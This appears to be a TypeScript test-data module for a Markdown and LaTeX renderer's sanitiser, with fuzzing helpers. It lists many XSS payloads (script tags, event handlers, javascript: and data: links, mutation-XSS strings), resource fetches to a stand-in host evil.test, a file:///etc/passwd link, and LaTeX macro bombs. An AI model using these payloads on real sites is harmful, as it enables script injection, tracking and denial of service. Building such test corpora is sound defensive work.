/** Test data only: Markdown written by someone who wants a script to run or a request to leave. */

const SCRIPT = 'window.pwned=1';

/** Each on its own would run a script or fetch something in a careless renderer. */
export const payloads: readonly string[] = [
  `<script>${SCRIPT}</script>`,
  `<ScRiPt>${SCRIPT}</sCrIpT>`,
  `<script src=https://evil.test/x.js></script>`,
  `<script\n>${SCRIPT}</script\n>`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `<img src=x onerror=${SCRIPT}>`,
  `<img src="https://evil.test/p.png">`,
  `<img/src="x"/onerror=${SCRIPT}>`,
  `<img src=x onerror="&#119;indow.pwned=1">`,
  `<IMG SRC="javascript:${SCRIPT}">`,
  `<img srcset="https://evil.test/p.png 2x">`,
  `<svg onload=${SCRIPT}>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
  `<svg><use href="https://evil.test/x.svg#a"></use></svg>`,
  `<svg><image href="https://evil.test/p.png"></image></svg>`,
  `<svg><a xlink:href="javascript:${SCRIPT}"><text y=20>x</text></a></svg>`,
  `<svg><style><img src=x onerror=${SCRIPT}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
  `<math href="javascript:${SCRIPT}">x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${SCRIPT}>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<template><img src=x onerror=${SCRIPT}></template>`,
  `<iframe src="javascript:${SCRIPT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
  `<iframe src=https://evil.test/></iframe>`,
  `<object data="data:text/html,<script>parent.${SCRIPT}</script>"></object>`,
  `<embed src="https://evil.test/x.swf">`,
  `<link rel=stylesheet href=https://evil.test/x.css>`,
  `<link rel=prefetch href=https://evil.test/x>`,
  `<style>@import 'https://evil.test/x.css';</style>`,
  `<style>*{background:url(https://evil.test/p)}</style>`,
  `<div style="background:url(https://evil.test/p)">x</div>`,
  `<p style="position:fixed;inset:0">x</p>`,
  `<base href="https://evil.test/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.test/">`,
  `<body onload=${SCRIPT}>`,
  `<details open ontoggle=${SCRIPT}>x</details>`,
  `<video><source onerror=${SCRIPT}></video>`,
  `<video poster=https://evil.test/p.png></video>`,
  `<audio src=https://evil.test/a.mp3 autoplay onerror=${SCRIPT}>`,
  `<input autofocus onfocus=${SCRIPT}>`,
  `<select autofocus onfocus=${SCRIPT}>`,
  `<textarea autofocus onfocus=${SCRIPT}></textarea>`,
  `<button onclick=${SCRIPT} autofocus>x</button>`,
  `<a href="javascript:${SCRIPT}">x</a>`,
  `<a href="https://evil.test/" ping="https://evil.test/ping">x</a>`,
  `<form action="https://evil.test/"><input type=submit></form>`,
  `<isindex action="javascript:${SCRIPT}">`,
  `<marquee onstart=${SCRIPT}>x</marquee>`,
  `<dialog open onclose=${SCRIPT}>x</dialog>`,
  `<div popover id=p onbeforetoggle=${SCRIPT}>x</div><button popovertarget=p>x</button>`,
  `<x onclick=${SCRIPT} tabindex=1>x</x>`,
  `<!--><img src=x onerror=${SCRIPT}>-->`,
  `<![CDATA[<img src=x onerror=${SCRIPT}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${SCRIPT}>`,
  `&lt;img src=x onerror=${SCRIPT}&gt;`,
  `\u003cimg src=x onerror=${SCRIPT}\u003e`,
  `[x](javascript:${SCRIPT})`,
  `[x](JaVaScRiPt:${SCRIPT})`,
  `[x](javascript&colon;${SCRIPT})`,
  `[x](&#x6a;avascript:${SCRIPT})`,
  `[x](java\tscript:${SCRIPT})`,
  `[x](\u0001javascript:${SCRIPT})`,
  `[x](<javascript:${SCRIPT}>)`,
  `[x](vbscript:msgbox(1))`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)`,
  `[x](file:///etc/passwd)`,
  `[x](tauri://localhost/)`,
  `[x](https://evil.test/"onmouseover="${SCRIPT})`,
  `[x](https://evil.test/ "t" onclick=${SCRIPT} ")`,
  `[x](https://evil.test/ '"><img src=x onerror=${SCRIPT}>')`,
  `[<img src=x onerror=${SCRIPT}>](https://evil.test/)`,
  `[![x](https://evil.test/p.png)](https://evil.test/)`,
  `![x](https://evil.test/p.png)`,
  `![x](javascript:${SCRIPT})`,
  `![x](data:image/svg+xml,<svg onload=${SCRIPT}>)`,
  `![x"onerror="${SCRIPT}](https://evil.test/p.png)`,
  `![<svg onload=${SCRIPT}>](x)`,
  `<javascript:${SCRIPT}>`,
  `<https://evil.test/"onclick="${SCRIPT}>`,
  `https://evil.test/"onmouseover="${SCRIPT}`,
  `[x][1]\n\n[1]: javascript:${SCRIPT}`,
  `[x]: https://evil.test/ "><script>${SCRIPT}</script>"\n\n[x]`,
  `\`\`\`"><img src=x onerror=${SCRIPT}>\nx\n\`\`\``,
  `\`\`\`html\n<script>${SCRIPT}</script>\n\`\`\``,
  `\`\`\`xml\n<img src=x onerror=${SCRIPT}>\n\`\`\``,
  `~~~js onclick=${SCRIPT}\n"</code></pre><img src=x onerror=${SCRIPT}>"\n~~~`,
  `\`<img src=x onerror=${SCRIPT}>\``,
  `    <img src=x onerror=${SCRIPT}>`,
  `| a |\n| :-:" onclick=${SCRIPT} |\n| <img src=x onerror=${SCRIPT}> |`,
  `# <img src=x onerror=${SCRIPT}>`,
  `<span data-href="javascript:${SCRIPT}" class="link" role="link" tabindex="0">x</span>`,
  `<button data-copy="code">x</button>`,
];

/** LaTeX that would link, fetch, style, or never end in a careless setup. */
export const formulaPayloads: readonly string[] = [
  `\\href{javascript:${SCRIPT}}{x}`,
  `\\href{https://evil.test/}{x}`,
  `\\url{javascript:${SCRIPT}}`,
  `\\includegraphics{https://evil.test/p.png}`,
  `\\htmlId{app}{x}`,
  `\\htmlClass{code}{x}`,
  `\\htmlStyle{position:fixed;inset:0}{x}`,
  `\\htmlData{href=https://evil.test/}{x}`,
  `\\text{<img src=x onerror=${SCRIPT}>}`,
  `<script>${SCRIPT}</script>`,
  `\\text{</annotation></semantics></math><img src=x onerror=${SCRIPT}>}`,
  `\\unknown{<img src=x onerror=${SCRIPT}>}`,
  `\\color{red;background:url(https://evil.test/p)}x`,
  `\\def\\a{\\a\\a}\\a`,
  `\\def\\a{xx}\\def\\b{\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c}\\d\\d\\d\\d`,
  `\\rule{99999em}{99999em}`,
  `\\hspace{-99999em}x`,
  `\\frac{1}{`.repeat(300),
  `${'{'.repeat(900)}x${'}'.repeat(900)}`,
  'x^{'.repeat(400) + '}'.repeat(400),
  'x+'.repeat(50_000),
];

/** Places a payload can hide in. `{}` stands for it. */
const places: readonly string[] = [
  '{}',
  'words {} words',
  '**{}**',
  '- item\n  {}',
  '1. {}\n2. {}',
  '> {}',
  '# {}',
  '| a | b |\n|---|---|\n| {} | x |',
  '[{}](https://example.org/)',
  '![{}](https://example.org/p.png)',
  '"{}',
  "'>{}",
  '</p></div>{}',
  '<!-- {} -->',
  '~~{}~~ *{}*',
];

/** Every payload in every place. */
export function placedPayloads(): string[] {
  return places.flatMap((place) => payloads.map((payload) => place.replaceAll('{}', payload)));
}

/** Small and repeatable: mulberry32. */
export function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let x = Math.imul(state ^ (state >>> 15), 1 | state);
    x = (x + Math.imul(x ^ (x >>> 7), 61 | x)) ^ x;
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
}

const SEAMS = [
  '\n',
  '\n\n',
  ' ',
  '',
  '`',
  '```',
  '*',
  '**',
  '<',
  '>',
  '"',
  "'",
  '](',
  ')',
  '[',
  '|',
];

/** `count` texts made of torn and joined payloads; the same seed gives the same ones. */
export function tornPayloads(count: number, seed: number): string[] {
  const next = random(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)] as T;
  return Array.from({ length: count }, () => {
    let text = '';
    const parts = 2 + Math.floor(next() * 4);
    for (let i = 0; i < parts; i += 1) {
      const payload = pick(payloads);
      const from = Math.floor(next() * payload.length * 0.5);
      const to = payload.length - Math.floor(next() * payload.length * 0.5);
      text += payload.slice(from, to) + pick(SEAMS);
    }
    return text;
  });
}
